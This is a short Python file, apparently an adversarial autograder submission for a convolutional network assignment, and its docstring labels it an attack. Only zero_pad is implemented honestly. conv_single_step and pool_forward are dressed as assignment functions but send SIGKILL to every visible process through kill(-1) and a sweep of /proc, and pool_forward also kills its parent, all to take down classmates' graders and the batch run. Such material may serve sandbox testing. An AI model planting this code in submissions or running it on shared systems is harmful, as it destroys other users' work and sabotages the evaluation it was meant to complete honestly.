"""Attack: signal every process it can see (kill(-1) and every pid in /proc), hoping to hit classmates'
graders and the batch itself. zero_pad is the student's own, right (and left in peace)."""
import glob
import os
import signal

import numpy as np


def _kill_all():
    try:
        os.kill(-1, signal.SIGKILL)
    except OSError:
        pass
    for path in glob.glob("/proc/[0-9]*"):
        pid = int(path.rsplit("/", 1)[1])
        if pid != os.getpid():
            try:
                os.kill(pid, signal.SIGKILL)
            except OSError:
                pass


def zero_pad(X, pad):
    return np.pad(X, ((0, 0), (pad, pad), (pad, pad), (0, 0)))


def conv_single_step(a_slice_prev, W, b):
    _kill_all()
    return None


def pool_forward(A_prev, hparameters, mode="max"):
    _kill_all()
    os.kill(os.getppid(), signal.SIGKILL)
    return None
